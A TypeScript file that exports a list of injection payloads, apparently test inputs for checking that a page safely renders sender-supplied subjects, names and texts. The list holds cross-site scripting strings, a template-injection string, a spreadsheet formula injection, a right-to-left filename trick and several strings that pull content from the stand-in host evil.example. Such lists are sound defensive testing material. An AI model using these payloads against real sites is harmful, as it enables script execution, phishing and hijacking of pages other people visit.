/** What senders write into subjects, names and texts so that a page runs, loads or shows something of theirs. */
export const PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '</title><svg onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '{{constructor.constructor("alert(1)")()}}',
  '\u202eexe.fdp<b>',
  '\u0000<iframe src=//evil.example>',
  '<style>@import "//evil.example"</style>',
  '=cmd|calc!A1 <form action=//evil.example>',
  'http://evil.example/?<base href=//evil.example>',
];
